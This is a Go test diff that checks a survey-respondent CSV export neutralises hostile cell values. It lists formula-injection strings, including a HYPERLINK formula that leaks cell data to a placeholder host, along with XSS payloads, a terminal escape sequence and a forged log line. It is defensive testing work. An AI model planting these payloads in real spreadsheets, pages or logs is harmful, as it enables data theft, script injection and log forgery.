@@ -190,28 +190,40 @@ func TestRespondentsAreErased(t *testing.T) {
 
 func TestExportIsSafe(t *testing.T) {
 	w := newWorld(t)
-	nasty := []string{`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\tx", "\rx", "\nx", `a "quoted", cell`, "two\nlines", "Ål ;x", ""}
-	for _, s := range nasty {
-		text, _ := json.Marshal(s)
-		w.into(nil, 201, "POST", "/v1/respondents", fmt.Sprintf(`{"campaignId":5000,"respondent":{"firstName":%s},"custom":{"a":[1.10]},"doNotContact":true}`, text))
+	cells := [][2]string{ // as received, and as exported
+		{`=1+1`, `'=1+1`}, {`+1`, `'+1`}, {`-1`, `'-1`}, {`@SUM(A1)`, `'@SUM(A1)`}, {"\tx", "'\tx"}, {"\rx", "'\rx"}, {"\nx", "'\nx"},
+		{`a "quoted", cell`, `a "quoted", cell`}, {"two\nlines", "two\nlines"}, {"Ål ;x", "Ål ;x"}, {"", ""}, {"a-b=c@d", "a-b=c@d"},
+		// What begins a cell where semicolons divide them, or after blanks.
+		{"a;=1+1", "a;'=1+1"}, {"a\n=1+1;", "a\n'=1+1;"}, {"a\t@x", "a\t'@x"}, {"\r\n-1", "'\n'-1"}, {" =1+1", " '=1+1"}, {"; \"+1", "; \"'+1"}, {"＝1+1", "'＝1+1"},
+		// RELIABILITY list W.
+		{`<script>alert(1)</script>`, `<script>alert(1)</script>`}, {`"><img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`},
+		{`</textarea><svg onload=alert(1)>`, `</textarea><svg onload=alert(1)>`}, {`{{constructor.constructor('alert(1)')()}}`, `{{constructor.constructor('alert(1)')()}}`},
+		{`=HYPERLINK("https://e/?"&A1)`, `'=HYPERLINK("https://e/?"&A1)`}, {`@SUM(1)`, `'@SUM(1)`}, {"\x1b]0;owned\x07", "\x1b]0;owned\x07"},
+		{"ok\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "ok\n{\"level\":\"INFO\",\"msg\":\"forged\"}"},
+	}
+	for _, c := range cells {
+		text, _ := json.Marshal(c[0])
+		w.into(nil, 201, "POST", "/v1/respondents", fmt.Sprintf(`{"campaignId":5000,"respondent":{"firstName":%s,"company":{"name":%s}},"note":%s,"custom":{"a":[1.10]},"doNotContact":true}`, text, text, text))
 	}
 	a := w.do("GET", "/v1/respondents/export?campaignId=5000", "")
 	if a.status != 200 || !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") || !strings.Contains(a.header.Get("Content-Disposition"), "attachment") {
 		t.Fatalf("got %d %v", a.status, a.header)
 	}
 	lines, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
-	if err != nil || len(lines) != len(nasty)+1 {
-		t.Fatalf("got %d lines, %v, want %d", len(lines), err, len(nasty)+1)
+	if err != nil || len(lines) != len(cells)+1 {
+		t.Fatalf("got %d lines, %v, want %d", len(lines), err, len(cells)+1)
 	}
-	name, custom := slices.Index(lines[0], "respondent.firstName"), slices.Index(lines[0], "custom")
+	custom := slices.Index(lines[0], "custom")
 	for i, line := range lines[1:] {
-		want := nasty[len(nasty)-1-i]
-		if want != "" && strings.ContainsAny(want[:1], "=+-@\t\r\n") {
-			want = "'" + want
-		}
-		want = strings.ReplaceAll(want, "\r\n", "\n")
-		if got := line[name]; got != want {
-			t.Errorf("got %q, want %q", got, want)
+		c := cells[len(cells)-1-i]
+		for _, name := range []string{"respondent.firstName", "respondent.company.name", "note"} {
+			at := slices.Index(lines[0], name)
+			if at < 0 {
+				t.Fatalf("got the columns %q, want %s among them", lines[0], name)
+			}
+			if got := line[at]; got != c[1] {
+				t.Errorf("%s %q: got %q, want %q", name, c[0], got, c[1])
+			}
 		}
 		if line[custom] != `{"a":[1.10]}` || line[custom-1] != "true" || line[1] != "5000" {
 			t.Errorf("got %q", line)
